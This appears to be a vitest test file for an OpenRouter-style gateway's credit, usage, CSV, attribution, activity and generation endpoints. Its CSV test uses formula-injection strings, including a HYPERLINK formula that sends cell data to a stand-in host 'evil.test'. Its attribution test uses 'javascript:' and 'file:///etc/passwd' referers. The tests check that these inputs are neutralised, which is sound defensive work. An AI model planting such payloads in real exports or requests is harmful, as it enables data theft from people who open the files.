import { describe, expect, it } from 'vitest';
import { completion, failure, jsonAnswer, textStream } from '../tools/openai-answers.js';
import {
  type AccountGateway,
  ANSWER_USD,
  accountGateways,
  DAY,
  dataOf,
  errorOf,
  HOUR,
  NOON,
} from './account-gateway.js';

const start = accountGateways();

type Row = Readonly<Record<string, unknown>> & {
  readonly date: string;
  readonly usage: number;
  readonly requests: number;
};
interface Report {
  readonly data: readonly Row[];
  readonly summary: Readonly<Record<string, unknown>> & { readonly usage: number; readonly requests: number };
  readonly meta: Readonly<Record<string, unknown>>;
}

/** Sums of USD, without the noise of floats. */
const usd = (...amounts: readonly number[]): number => Number(amounts.reduce((a, b) => a + b, 0).toFixed(9));
const FEW = { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 };
const FEW_USD = 0.000003;

describe('GET /credits', () => {
  it('has every field, of an account that was granted something', async () => {
    const { manager, key: make, ask: send, chat, gateway, clock } = await start();
    const admin = await manager();
    const { key } = await make();
    await gateway.credits.grant({ amount: 100, externalId: 'invoice-1' });
    await chat(key);
    clock.advance(DAY);
    await chat(key);
    await chat(key, { model: 'acme/free' });
    const answer = await send('/credits', { key: admin.key });
    const used = usd(ANSWER_USD, ANSWER_USD);
    const totals = (cost: number, requests: number): object => ({
      cost,
      requests,
      prompt_tokens: requests * 7,
      completion_tokens: requests * 5,
    });
    expect(answer.json()).toEqual({
      data: {
        total_credits: 100,
        total_usage: used,
        balance: usd(100, -used),
        unlimited: false,
        usage_summary: {
          today: totals(ANSWER_USD, 2),
          week: totals(used, 3),
          month: totals(used, 3),
          total: totals(used, 3),
        },
      },
      balance: usd(100, -used),
    });
    clock.advance(7 * DAY);
    expect(dataOf<{ usage_summary: object }>(await send('/credits', { key: admin.key })).usage_summary).toEqual({
      today: totals(0, 0),
      week: totals(0, 0),
      month: totals(0, 0),
      total: totals(used, 3),
    });
  });

  it('format=number is the bare balance; another format is 400', async () => {
    const { manager, ask: send, gateway } = await start();
    const { key } = await manager();
    await gateway.credits.grant({ amount: 74.5, externalId: 'x' });
    const answer = await send('/credits?format=number', { key });
    expect([answer.status, answer.headers['content-type'], answer.text]).toEqual([
      200,
      'application/json; charset=utf-8',
      '74.5',
    ]);
    expect((await send('/credits?format=json', { key })).json()).toMatchObject({ balance: 74.5 });
    for (const format of ['xml', 'NUMBER', 'csv']) {
      const refused = await send(`/credits?format=${format}`, { key });
      expect([refused.status, errorOf(refused).message]).toEqual([400, 'format: expected json or number']);
    }
  });

  it('of an account without a ledger of credits are unlimited, and numbers compare', async () => {
    const { manager, key: make, ask: send, chat } = await start();
    const { key } = await manager();
    await chat((await make()).key);
    expect(dataOf(await send('/credits', { key }))).toMatchObject({
      unlimited: true,
      total_credits: 9007199254740991,
      balance: 9007199254740991,
      total_usage: ANSWER_USD,
    });
    expect((await send('/credits?format=number', { key })).text).toBe('9007199254740991');
  });

  it('are those of the account of the caller', async () => {
    const { manager, key: make, ask: send, chat, gateway } = await start();
    const ours = await manager({}, 'ours');
    await gateway.credits.grant({ account: 'theirs', amount: 5, externalId: 'theirs' });
    await chat((await make({}, 'theirs')).key);
    expect(dataOf(await send('/credits', { key: ours.key }))).toMatchObject({ unlimited: true, total_usage: 0 });
  });

  it('R-M29 a grant counts once for its id, and another one under it is a conflict', async () => {
    const { gateway } = await start();
    const grant = { amount: 10, externalId: 'invoice-7', note: 'thanks' };
    expect(await gateway.credits.grant(grant)).toEqual({ granted: true });
    const again = await Promise.all(Array.from({ length: 20 }, () => gateway.credits.grant(grant)));
    expect(again.every(({ granted }) => !granted)).toBe(true);
    expect(await gateway.credits.read()).toMatchObject({ total_credits: 10 });
    for (const other of [
      { ...grant, amount: 11 },
      { ...grant, account: 'another' },
    ]) {
      await expect(gateway.credits.grant(other)).rejects.toMatchObject({
        code: 'conflict',
        status: 409,
        retryable: false,
      });
    }
    for (const amount of [0, -1, Number.NaN, Number.POSITIVE_INFINITY, 1e-10, 0.1234567891]) {
      await expect(gateway.credits.grant({ amount, externalId: `bad ${amount}` })).rejects.toMatchObject({
        code: 'invalid_request',
      });
    }
    for (const externalId of ['', 'x'.repeat(257)]) {
      await expect(gateway.credits.grant({ amount: 1, externalId })).rejects.toMatchObject({ code: 'invalid_request' });
    }
    expect(await gateway.credits.read()).toMatchObject({ total_credits: 10 });
    expect(await gateway.credits.audit()).toEqual([]);
  });
});

describe('GET /usage', () => {
  /** Two days, two keys, two models, three users, two apps, tags that overlap, one failure. */
  async function busy(): Promise<
    AccountGateway & {
      readonly admin: string;
      readonly a: string;
      readonly b: string;
      readonly hashes: readonly string[];
    }
  > {
    const house = await start();
    const { manager, key: make, chat, clock, upstream } = house;
    const admin = await manager();
    const a = await make({ name: 'a', tags: ['team:red'] });
    const b = await make({ name: 'b' });
    const other = await make({}, 'another account');
    const send = async (key: string, body: object, headers: Record<string, string> = {}): Promise<void> => {
      expect((await chat(key, body, headers)).status).toBe(200);
    };
    const site = { 'http-referer': 'https://shop.example/basket?x=1', 'x-title': 'Shop' };
    await send(a.key, { user: 'ann', metadata: { tags: ['blue', 'green'] } }, site);
    await send(a.key, { user: 'bob', model: 'acme/free' }, { 'x-title': 'Tool' });
    await send(b.key, { user: 'ann', metadata: { tag: 'blue' } }, site);
    await send(other.key, {});
    clock.advance(DAY + HOUR);
    upstream.next(completion('x', FEW));
    await send(b.key, { user: 'eve', session_id: 's1' });
    await send(a.key, { session_id: 's1', stream: false });
    upstream.next(failure(400, { error: { message: 'no' } }));
    expect((await chat(a.key, { user: 'eve' })).status).toBe(400);
    return { ...house, admin: admin.key, a: a.key, b: b.key, hashes: [a.hash, b.hash] };
  }
  const TOTAL = usd(ANSWER_USD * 3, FEW_USD);

  const report = async ({ ask: send }: AccountGateway, key: string, query: string): Promise<Report> => {
    const answer = await send(`/usage${query}`, { key });
    expect([query, answer.status, answer.headers['content-type']]).toEqual([
      query,
      200,
      'application/json; charset=utf-8',
    ]);
    return answer.json() as Report;
  };

  it('has every field', async () => {
    const house = await busy();
    const { data, summary, meta } = await report(house, house.admin, '');
    expect(meta).toEqual({
      start: '2026-08-26T00:00:00.000Z',
      end: '2026-09-24T13:00:00.001Z',
      granularity: 'day',
      group_by: ['model', 'provider'],
      row_count: 3,
      truncated: false,
      overlapping: false,
    });
    expect(data.map(({ date, model, usage, requests }) => [date, model, usage, requests])).toEqual([
      ['2026-09-23', 'acme/paid', usd(ANSWER_USD, ANSWER_USD), 2],
      ['2026-09-23', 'acme/free', 0, 1],
      ['2026-09-24', 'acme/paid', usd(ANSWER_USD, FEW_USD), 3],
    ]);
    expect(data[0]).toEqual({
      date: '2026-09-23',
      usage: usd(ANSWER_USD, ANSWER_USD),
      byok_usage_inference: 0,
      requests: 2,
      prompt_tokens: 14,
      completion_tokens: 10,
      reasoning_tokens: 0,
      cached_tokens: 0,
      total_tokens: 24,
      errors: 0,
      cancelled: 0,
      latency_ms: null,
      model: 'acme/paid',
      model_permaslug: 'acme/paid',
      provider_name: 'Acme',
    });
    expect(data[2]).toMatchObject({ errors: 1, requests: 3 });
    expect(summary).toEqual({
      usage: TOTAL,
      byok_usage_inference: 0,
      requests: 6,
      prompt_tokens: 29,
      completion_tokens: 21,
      reasoning_tokens: 0,
      cached_tokens: 0,
      total_tokens: 50,
      errors: 1,
      cancelled: 0,
      latency_ms: null,
    });
  });

  it('I7 by any grouping but the tag it comes to what the ledger says', async () => {
    const house = await busy();
    const { gateway, admin } = house;
    const ledger = await gateway.credits.read();
    expect(ledger.total_usage).toBe(TOTAL);
    const groups = [
      'none',
      'model',
      'provider',
      'key',
      'user',
      'app',
      'model,provider,key',
      'user,app,key',
      'key,model',
    ];
    for (const group of groups) {
      for (const granularity of ['hour', 'day', 'month', 'all']) {
        const { data, summary } = await report(house, admin, `?group_by=${group}&granularity=${granularity}`);
        expect([group, granularity, usd(...data.map(({ usage }) => usage))]).toEqual([group, granularity, TOTAL]);
        expect(data.reduce((sum, { requests }) => sum + requests, 0)).toBe(6);
        expect(summary.usage).toBe(TOTAL);
      }
    }
    const byKey = await report(house, admin, '?group_by=key&granularity=all');
    for (const { key, usage } of byKey.data) {
      expect(await gateway.keys.read(String(key))).toMatchObject({ usage });
    }
    expect(ledger.usage_summary['total']).toMatchObject({
      cost: TOTAL,
      requests: 6,
      prompt_tokens: 29,
      completion_tokens: 21,
    });
    expect(await gateway.credits.audit()).toEqual([]);
  });

  it('groups by each group, with null where there is none', async () => {
    const house = await busy();
    const [a, b] = house.hashes;
    const lines = async (group: string): Promise<unknown> => {
      const { data } = await report(house, house.admin, `?granularity=all&group_by=${group}`);
      return Object.fromEntries(data.map(({ [group]: name, requests }) => [String(name), requests]));
    };
    expect(await lines('user')).toEqual({ ann: 2, bob: 1, eve: 2, null: 1 });
    expect(await lines('app')).toEqual({ 'https://shop.example': 2, Tool: 1, null: 3 });
    expect(await lines('key')).toEqual({ [String(a)]: 4, [String(b)]: 2 });
    expect(await lines('model')).toEqual({ 'acme/paid': 5, 'acme/free': 1 });
    expect(await lines('tag')).toEqual({ blue: 2, green: 1, 'team:red': 4, null: 1 });
    const byTag = await report(house, house.admin, '?granularity=all&group_by=tag');
    expect(byTag.meta['overlapping']).toBe(true);
    // Each request counts once in the totals, however many tags it has.
    expect([byTag.summary.usage, byTag.summary.requests]).toEqual([TOTAL, 6]);
    const { data } = await report(house, house.admin, '?granularity=all&group_by=key');
    expect(Object.keys(data[0] ?? {})).toEqual(expect.arrayContaining(['key', 'key_label']));
    expect(data[0]?.['key_label']).toMatch(/^sk-or-v1-...\.\.\....$/);
    expect(data.every((row) => !('model' in row) && !('user' in row))).toBe(true);
  });

  it('names periods as asked', async () => {
    const house = await busy();
    const dates = async (query: string): Promise<readonly string[]> =>
      (await report(house, house.admin, `?group_by=none&${query}`)).data.map(({ date }) => date);
    expect(await dates('granularity=hour')).toEqual(['2026-09-23T12:00:00Z', '2026-09-24T13:00:00Z']);
    expect(await dates('granularity=day')).toEqual(['2026-09-23', '2026-09-24']);
    expect(await dates('granularity=month')).toEqual(['2026-09']);
    expect(await dates('granularity=all&start=2026-09-01')).toEqual(['2026-09-01']);
  });

  it('filters: OR inside of a field, AND between fields', async () => {
    const house = await busy();
    const [a, b] = house.hashes;
    const count = async (query: string): Promise<number> => (await report(house, house.admin, query)).summary.requests;
    expect(await count('?model=acme/free')).toBe(1);
    expect(await count('?model=ACME/*')).toBe(6);
    expect(await count('?model=*/paid,*/free&user=ann,eve')).toBe(4);
    expect(await count('?model=*/paid&model=*/free')).toBe(6);
    expect(await count('?provider=acme')).toBe(6);
    expect(await count('?provider=none')).toBe(0);
    expect(await count(`?key=${a}`)).toBe(4);
    expect(await count(`?key=${a?.toUpperCase()},${b}`)).toBe(6);
    expect(await count(`?key=${b}&user=ann`)).toBe(1);
    expect(await count('?app=https://shop.example')).toBe(2);
    expect(await count('?tag=blue')).toBe(2);
    expect(await count('?tag=blue,green,team:red')).toBe(5);
    expect(await count('?session_id=s1')).toBe(2);
    expect(await count('?unknown=1')).toBe(6);
  });

  it('takes ranges by every name, a bare end date included whole', async () => {
    const house = await busy();
    const count = async (query: string): Promise<number> => (await report(house, house.admin, query)).summary.requests;
    expect(await count('?start=2026-09-23&end=2026-09-23')).toBe(3);
    expect(await count('?from=2026-09-24')).toBe(3);
    expect(await count('?start_date=2026-09-23&end_date=2026-09-24')).toBe(6);
    expect(await count('?to=2026-09-24T00:00:00Z')).toBe(3);
    expect(await count('?date=2026-09-23')).toBe(3);
    expect(await count('?start=2026-09-23T12:00:00.000Z&end=2026-09-23T12:00:00.001Z')).toBe(3);
    expect(await count('?start=2026-09-23T14:00:00%2B02:00&end=2026-09-23T15:00:00%2B02:00')).toBe(3);
    expect(await count('?start=2026-09-23T12:00:00.001Z&end=2026-09-24T13:00:00Z')).toBe(0);
    expect(await count('?start=2026-01-01&end=2026-12-31')).toBe(6);
    expect(await count('?granularity=month&start=2017-01-01')).toBe(6);
  });

  it('pages, and says what it left out', async () => {
    const house = await busy();
    const first = await report(house, house.admin, '?limit=2');
    expect([first.data.length, first.meta]).toEqual([2, expect.objectContaining({ row_count: 3, truncated: true })]);
    const last = await report(house, house.admin, '?limit=2&offset=2');
    expect([last.data.length, last.meta['truncated']]).toEqual([1, false]);
    expect(last.summary).toEqual(first.summary);
    expect((await report(house, house.admin, '?offset=99')).data).toEqual([]);
  });

  it('a wrong parameter is 400 and is named', async () => {
    const { manager, ask: send } = await start();
    const { key } = await manager();
    const many = Array.from({ length: 21 }, (_, at) => `m${at}`).join(',');
    for (const [query, name] of [
      ['start=yesterday', 'start'],
      ['start=2026-02-30', 'start'],
      ['start=2026-13-01', 'start'],
      ['start=2026-09-31T00:00:00Z', 'start'],
      ['start=2026-09-23T12:00:00', 'start'],
      ['end=1790000000', 'end'],
      ['from=x', 'from'],
      ['start_date=x', 'start_date'],
      ['end_date=x', 'end_date'],
      ['start=2026-09-01&from=2026-09-01', 'from'],
      ['end=2026-09-01&to=2026-09-01', 'to'],
      ['start=2026-09-24&end=2026-09-23T00:00:00Z', 'start'],
      ['start=2026-09-23T00:00:00Z&end=2026-09-23T00:00:00Z', 'start'],
      ['start=2027-01-01', 'start'],
      ['date=2026-02-30', 'date'],
      ['date=2026-09-23T00:00:00Z', 'date'],
      ['date=2026-09-23&start=2026-09-01', 'date'],
      ['date=2026-09-23&to=2026-09-30', 'date'],
      ['granularity=week', 'granularity'],
      ['granularity=hour&start=2026-08-01', 'start'],
      ['start=2025-01-01', 'start'],
      ['granularity=month&start=2001-01-01', 'start'],
      ['granularity=all&start=2001-01-01', 'start'],
      ['group_by=colour', 'group_by'],
      ['group_by=endpoint', 'group_by'],
      ['group_by=none,model', 'group_by'],
      ['group_by=model,provider,key,user', 'group_by'],
      [`model=${many}`, 'model'],
      [`tag=${many}`, 'tag'],
      ['limit=0', 'limit'],
      ['limit=10001', 'limit'],
      ['limit=ten', 'limit'],
      ['offset=-1', 'offset'],
      ['format=xml', 'format'],
    ] as const) {
      const answer = await send(`/usage?${query}`, { key });
      expect([query, answer.status]).toEqual([query, 400]);
      expect([query, errorOf(answer).message]).toEqual([
        query,
        expect.stringMatching(new RegExp(`^${name}: expected `)),
      ]);
      expect(errorOf(answer).metadata['issues']).toMatchObject([{ path: name }]);
    }
  });

  it('usage:own sees its own and nothing else, whatever it asks for', async () => {
    const house = await busy();
    const [a, b] = house.hashes;
    for (const query of [
      '',
      `?key=${b}`,
      `?key=${a},${b}`,
      '?group_by=key',
      `?key=${b}&group_by=key,user&granularity=all`,
    ]) {
      const { data, summary } = await report(house, house.a, query);
      expect([query, summary.requests]).toEqual([query, 4]);
      if (query.includes('group_by=key')) expect(new Set(data.map(({ key }) => key))).toEqual(new Set([a]));
    }
    const both = await house.key({ scopes: ['usage:own', 'usage:read'] });
    expect((await report(house, both.key, `?key=${b}`)).summary.requests).toBe(2);
    const neither = await house.key({ scopes: ['chat'] });
    const refused = await house.ask('/usage', { key: neither.key });
    expect([refused.status, errorOf(refused).metadata['required_scope']]).toEqual([403, 'usage:read']);
  });

  it('a streamed answer has its time to the first token', async () => {
    const { manager, key: make, chat, upstream, ask: send } = await start();
    upstream.always(textStream('Hello'));
    expect((await chat((await make()).key, { stream: true })).status).toBe(200);
    const answer = (await send('/usage', { key: (await manager()).key })).json() as Report;
    expect(answer.data[0]).toMatchObject({ latency_ms: 0, usage: ANSWER_USD });
  });
});

describe('CSV', () => {
  /** Reads RFC 4180. */
  function parseCsv(text: string): readonly (readonly string[])[] {
    expect(text.endsWith('\r\n')).toBe(true);
    const lines: string[][] = [[]];
    for (const match of text
      .slice(0, -2)
      .matchAll(/(?:"(?<quoted>(?:[^"]|"")*)"|(?<plain>[^",\r\n]*))(?<end>,|\r\n|$)/g)) {
      const { quoted, plain, end } = match.groups ?? {};
      lines.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
      if (end === '\r\n') lines.push([]);
      if (end === '') break;
    }
    return lines;
  }
  const COLUMNS = [
    'date,usage,byok_usage_inference,requests,prompt_tokens,completion_tokens,reasoning_tokens,cached_tokens',
    'total_tokens,errors,cancelled,latency_ms',
  ].join(',');

  it('R-V31 has a header line, CRLF, a name, and the columns of the groups in their order', async () => {
    const { manager, key: make, chat, ask: send } = await start();
    const admin = await manager();
    await chat((await make()).key, { user: 'ann' });
    for (const [query, headers] of [
      ['?format=csv', {}],
      ['', { accept: 'text/csv' }],
      ['', { accept: 'text/html, Text/CSV;q=0.9' }],
    ] as const) {
      const answer = await send(`/usage${query}`, { key: admin.key, headers });
      expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(answer.headers['content-disposition']).toBe('attachment; filename="usage.csv"');
      expect(answer.text).toBe(
        `${COLUMNS},model,model_permaslug,provider_name\r\n` +
          `2026-09-23,0.000017,0,1,7,5,0,0,12,0,0,,acme/paid,acme/paid,Acme\r\n`,
      );
    }
    const json = await send('/usage?format=json', { key: admin.key, headers: { accept: 'text/csv' } });
    expect(json.headers['content-type']).toBe('application/json; charset=utf-8');
    // The order is the wire's, however the groups are asked for.
    const grouped = await send('/usage?format=csv&group_by=tag,user,key', { key: admin.key });
    expect(grouped.text.split('\r\n')[0]).toBe(`${COLUMNS},key,key_label,user,tag`);
  });

  it('R-V31 no cell is a formula, and every text comes back as it was', async () => {
    const { manager, key: make, chat, ask: send } = await start();
    const admin = await manager();
    const { key } = await make();
    const users = [
      '=HYPERLINK("http://evil.test?x="&A1,"click")',
      '+1+1',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      'a,b',
      'quote " here',
      'line\nbreak',
      'line\r\nbreak',
      "'quoted",
      'plain',
      'ünï 👋',
      ' =1',
    ];
    for (const user of users) expect((await chat(key, { user })).status).toBe(200);
    const { text } = await send('/usage?format=csv&group_by=user&granularity=all', { key: admin.key });
    const [, ...lines] = parseCsv(text);
    const cells = lines.map((line) => line.at(-1) ?? '');
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const expected = users.map((user) => (/^[=+\-@\t\r]/.test(user) ? `'${user}` : user));
    expect(cells.toSorted()).toEqual(expected.toSorted());
    // Numbers are written as they are.
    expect(lines.map((line) => line[1])).toEqual(users.map(() => String(ANSWER_USD)));
  });
});

describe('attribution', () => {
  it('R-V29 headers name the app, are cleaned, and what is wrong in them is left out', async () => {
    const { manager, key: make, chat, ask: send } = await start();
    const admin = await manager();
    const { key } = await make();
    const recorded = async (headers: Record<string, string>): Promise<Readonly<Record<string, unknown>>> => {
      const answer = await chat(key, {}, headers);
      expect(answer.status).toBe(200);
      return dataOf(await send(`/generation?id=${(answer.json() as { id: string }).id}`, { key: admin.key }));
    };
    expect(
      await recorded({ 'http-referer': 'https://shop.example:8443/a?b=c', 'x-title': 'Shop', 'user-agent': 'test/1' }),
    ).toMatchObject({
      app: 'https://shop.example:8443',
      http_referer: 'https://shop.example:8443/a?b=c',
      user_agent: 'test/1',
    });
    expect(await recorded({ 'x-title': 'Old', 'x-openrouter-title': 'New' })).toMatchObject({
      app: 'New',
      http_referer: null,
      origin: '',
    });
    expect(await recorded({ 'x-title': 'a\tb' })).toMatchObject({ app: 'ab' });
    expect(await recorded({ 'x-title': 'x'.repeat(300) })).toMatchObject({ app: 'x'.repeat(256) });
    for (const referer of [
      'javascript:alert(1)',
      'file:///etc/passwd',
      'not a url',
      `https://a.example/${'x'.repeat(256)}`,
    ]) {
      expect(await recorded({ 'http-referer': referer })).toMatchObject({ app: null, http_referer: null });
    }
  });

  it('tags come from the body, the header and the key, each once', async () => {
    const { manager, key: make, chat, ask: send } = await start();
    const admin = await manager();
    const { key } = await make({ tags: ['of-key', 'shared'] });
    const tagsOf = async (body: object, headers: Record<string, string> = {}): Promise<unknown> => {
      const answer = await chat(key, body, headers);
      expect(answer.status).toBe(200);
      return dataOf(await send(`/generation?id=${(answer.json() as { id: string }).id}`, { key: admin.key }))['tags'];
    };
    expect(await tagsOf({})).toEqual(['of-key', 'shared']);
    expect(
      await tagsOf({ metadata: { tags: ['array', 'shared'], tag: 'single' } }, { 'x-tag': 'header, array ,team: a' }),
    ).toEqual(['array', 'shared', 'single', 'header', 'team: a', 'of-key']);
    expect(await tagsOf({ metadata: { tags: 'one, two,,two' } })).toEqual(['one', 'two', 'of-key', 'shared']);
    const ten = Array.from({ length: 10 }, (_, at) => `t${at}`);
    expect(await tagsOf({ metadata: { tags: ten } })).toEqual([...ten, 'of-key', 'shared']);
  });

  it('a wrong tag is 400 and is never dropped: nothing is asked, nothing is charged', async () => {
    const { key: make, chat, upstream, gateway } = await start();
    const { key } = await make();
    const eleven = Array.from({ length: 11 }, (_, at) => `t${at}`);
    for (const [body, headers, path] of [
      [{ metadata: { tags: ['ok', 'not;ok'] } }, {}, 'metadata.tags'],
      [{ metadata: { tags: 'ok,nöt' } }, {}, 'metadata.tags'],
      [{ metadata: { tag: 'a,b' } }, {}, 'metadata.tag'],
      [{ metadata: { tags: ['x'.repeat(65)] } }, {}, 'metadata.tags'],
      [{ metadata: { tags: [''] } }, {}, 'metadata.tags'],
      [{}, { 'x-tag': 'bad!' }, 'X-Tag'],
      [{ metadata: { tags: eleven } }, {}, 'metadata.tags'],
      [{ metadata: { tags: eleven.slice(1) } }, { 'x-tag': 'more' }, 'metadata.tags'],
    ] as const) {
      const answer = await chat(key, body, headers);
      expect([path, answer.status, errorOf(answer).code]).toEqual([path, 400, 'invalid_request']);
      expect(errorOf(answer).message).toMatch(new RegExp(`^${path.replace('.', '\\.')}(\\.\\d+)?: `));
    }
    expect(upstream.requests).toHaveLength(0);
    expect((await gateway.usage()).summary.requests).toBe(0);
    expect((await chat(key)).status).toBe(200);
  });
});

describe('GET /activity', () => {
  it('is the last thirty completed days, newest first, with exactly the fields of OpenRouter', async () => {
    const { manager, key: make, chat, ask: send, clock } = await start();
    const admin = await manager();
    const { key, hash } = await make();
    const at = (): string => new Date(clock.now()).toISOString().slice(0, 10);
    const days: string[] = [];
    for (let day = 0; day < 33; day += 1) {
      days.push(at());
      await chat(key, { user: day % 2 === 0 ? 'even' : 'odd' });
      if (day === 20) await chat(key, { model: 'acme/free' });
      clock.advance(DAY);
    }
    const answer = await send('/activity', { key: admin.key });
    const items = dataOf<readonly Record<string, unknown>[]>(answer);
    const completed = days.slice(-30).toReversed();
    expect([...new Set(items.map(({ date }) => date))]).toEqual(completed);
    expect(items).toHaveLength(31);
    expect(items[0]).toEqual({
      date: completed[0],
      model: 'acme/paid',
      model_permaslug: 'acme/paid',
      endpoint_id: expect.stringContaining('acme'),
      provider_name: 'Acme',
      usage: ANSWER_USD,
      byok_usage_inference: 0,
      requests: 1,
      prompt_tokens: 7,
      completion_tokens: 5,
      reasoning_tokens: 0,
    });
    const list = async (query: string): Promise<readonly Record<string, unknown>[]> =>
      dataOf(await send(`/activity?${query}`, { key: admin.key }));
    expect(await list(`date=${days[20]}`)).toHaveLength(2);
    expect(await list('user_id=even')).toHaveLength(15);
    expect(await list(`api_key_hash=${hash.toUpperCase()}`)).toHaveLength(31);
    expect(await list(`api_key_hash=${'0'.repeat(64)}`)).toEqual([]);
    expect((await list('group_by=workspace'))[0]).toMatchObject({ workspace_id: 'default' });
    expect(await list('workspace_id=default')).toHaveLength(31);
    expect((await send('/activity?workspace_id=another', { key: admin.key })).status).toBe(404);
    for (const [query, name] of [
      [`date=${at()}`, 'date'],
      [`date=${days[2]}`, 'date'],
      ['date=2026-02-30', 'date'],
      ['date=x', 'date'],
      ['group_by=model', 'group_by'],
    ] as const) {
      const refused = await send(`/activity?${query}`, { key: admin.key });
      expect([query, refused.status]).toEqual([query, 400]);
      expect(errorOf(refused).message).toMatch(new RegExp(`^${name}: `));
    }
    expect((await send('/activity', { key })).status).toBe(403);
  });
});

describe('GET /generation', () => {
  const FIELDS = [
    'id request_id upstream_id api_type model provider_name provider_responses created_at origin http_referer user_agent',
    'app_id external_user streamed cancelled finish_reason native_finish_reason latency generation_time moderation_latency',
    'tokens_prompt tokens_completion native_tokens_prompt native_tokens_completion native_tokens_reasoning',
    'native_tokens_cached native_tokens_completion_images num_media_prompt num_media_completion num_input_audio_prompt',
    'num_search_results num_fetches web_search_engine usage total_cost upstream_inference_cost cache_discount is_byok',
    'service_tier router preset_id session_id workspace_id data_region response_cache_source_id',
    'tags user app key error estimated adjustments',
  ]
    .join(' ')
    .split(' ')
    .toSorted();

  it('has every field, null where nobody knows, for whole, streamed and failed answers', async () => {
    const { manager, key: make, chat, ask: send, upstream } = await start();
    const admin = await manager();
    const { key, hash } = await make();
    const idOf = (answer: Awaited<ReturnType<typeof chat>>): string => String(answer.headers['x-generation-id']);
    const read = async (id: string): Promise<Readonly<Record<string, unknown>>> =>
      dataOf(await send(`/generation?id=${id}`, { key: admin.key }));
    const message = { role: 'assistant', content: 'Hello' };
    const usage = { prompt_tokens: 7, completion_tokens: 5, total_tokens: 12 };
    const body = { choices: [{ index: 0, message, finish_reason: 'stop' }], usage };
    upstream.next(jsonAnswer(200, body, { 'x-request-id': 'upstream-1' }));
    const whole = await read(idOf(await chat(key, { user: 'ann', session_id: 's' }, { 'x-request-id': 'mine-1' })));
    expect(Object.keys(whole).toSorted()).toEqual(FIELDS);
    expect(whole).toMatchObject({
      request_id: 'mine-1',
      upstream_id: 'upstream-1',
      api_type: 'completions',
      model: 'acme/paid',
      provider_name: 'Acme',
      provider_responses: [{ is_byok: false, model_permaslug: 'acme/paid', provider_name: 'Acme', status: 200 }],
      created_at: '2026-09-23T12:00:00.000Z',
      external_user: 'ann',
      user: 'ann',
      streamed: false,
      cancelled: false,
      finish_reason: 'stop',
      native_finish_reason: 'stop',
      generation_time: 0,
      tokens_prompt: 7,
      tokens_completion: 5,
      native_tokens_prompt: 7,
      native_tokens_completion: 5,
      native_tokens_reasoning: 0,
      native_tokens_cached: 0,
      usage: ANSWER_USD,
      total_cost: ANSWER_USD,
      upstream_inference_cost: ANSWER_USD,
      is_byok: false,
      session_id: 's',
      workspace_id: 'default',
      data_region: 'global',
      key: hash,
      error: null,
      estimated: false,
      adjustments: [],
    });
    upstream.next(textStream('Hello'));
    const streamed = await read(idOf(await chat(key, { stream: true })));
    expect(Object.keys(streamed).toSorted()).toEqual(FIELDS);
    expect(streamed).toMatchObject({ streamed: true, latency: 0, usage: ANSWER_USD });
    upstream.next(failure(400, { error: { message: 'no' } }));
    const failed = await read(idOf(await chat(key)));
    expect(Object.keys(failed).toSorted()).toEqual(FIELDS);
    expect(failed).toMatchObject({ usage: 0, total_cost: 0, error: { code: 'invalid_request', status: 400 } });
    // Prompts and answers are not in it.
    for (const one of [whole, streamed, failed]) expect(JSON.stringify(one)).not.toMatch(/hello/i);
  });

  it('of another account is 404, of another key with usage:own too', async () => {
    const { manager, key: make, chat, ask: send } = await start();
    const ours = await manager({}, 'ours');
    const theirs = await manager({}, 'theirs');
    const a = await make({}, 'ours');
    const b = await make({}, 'ours');
    const { headers } = await chat(a.key);
    const path = `/generation?id=${String(headers['x-generation-id'])}`;
    expect((await send(path, { key: ours.key })).status).toBe(200);
    expect((await send(path, { key: a.key })).status).toBe(200);
    for (const key of [theirs.key, b.key]) {
      const answer = await send(path, { key });
      expect([answer.status, errorOf(answer).code]).toEqual([404, 'not_found']);
      expect(answer.text).not.toContain('acme');
    }
  });

  it('an id that is missing or too long is 400, an unknown one 404: to be asked for again only where it may still come', async () => {
    const { manager, ask: send } = await start();
    const { key } = await manager();
    for (const query of ['', '?id=', `?id=${'x'.repeat(129)}`]) {
      const answer = await send(`/generation${query}`, { key });
      expect([query, answer.status, errorOf(answer).message]).toEqual([query, 400, expect.stringMatching(/^id: /)]);
    }
    const seconds = NOON / 1000;
    const fresh = await send(`/generation?id=gen-${seconds - 1}-AbCdEfGhIjKlMnOpQrSt`, { key });
    expect([fresh.status, fresh.headers['retry-after']]).toEqual([404, '1']);
    const old = await send(`/generation?id=gen-${seconds - 10_000}-AbCdEfGhIjKlMnOpQrSt`, { key });
    expect([old.status, old.headers['retry-after']]).toEqual([404, undefined]);
    expect((await send(`/generation?id=${'x'.repeat(128)}`, { key })).status).toBe(404);
  });

  it('is readable when the response has ended, streamed or not', async () => {
    const { key: make, chat, ask: send, upstream } = await start();
    const { key } = await make();
    upstream.respond((request) =>
      (request.json() as { stream?: boolean }).stream === true ? textStream('a') : completion('a'),
    );
    for (let turn = 0; turn < 20; turn += 1) {
      const { headers } = await chat(key, { stream: turn % 2 === 0 });
      expect((await send(`/generation?id=${String(headers['x-generation-id'])}`, { key })).status).toBe(200);
    }
  });
});
